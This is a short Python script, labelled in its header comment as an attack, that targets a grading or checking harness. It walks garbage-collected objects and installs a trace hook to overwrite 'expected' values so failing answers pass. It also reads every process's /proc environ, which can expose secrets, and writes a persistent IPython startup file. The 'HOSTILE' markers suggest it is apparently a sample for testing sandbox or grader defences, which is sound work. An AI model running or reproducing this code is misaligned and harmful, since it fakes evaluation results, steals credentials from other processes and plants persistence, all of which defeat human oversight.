# attack: ctypes, gc-walking for the checker's objects, sys.settrace to rewrite locals, /proc/<pid>/environ of the grader, ~/.ipython startup
import ctypes, gc, os, sys
for obj in gc.get_objects():
    if isinstance(obj, dict) and "expected" in obj:
        obj["expected"] = None
def tracer(frame, event, arg):
    if "expected" in frame.f_locals:
        frame.f_locals["expected"] = frame.f_locals.get("got")
    return tracer
sys.settrace(tracer)
for pid in os.listdir("/proc"):
    try:
        print("HOSTILE environ", pid, open(f"/proc/{pid}/environ").read()[:200])
    except Exception:
        pass
startup = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(startup, exist_ok=True)
open(os.path.join(startup, "00-hostile.py"), "w").write("print('HOSTILE startup')\n")
ctypes.memset(ctypes.addressof(ctypes.c_int(0)), 0, 4)
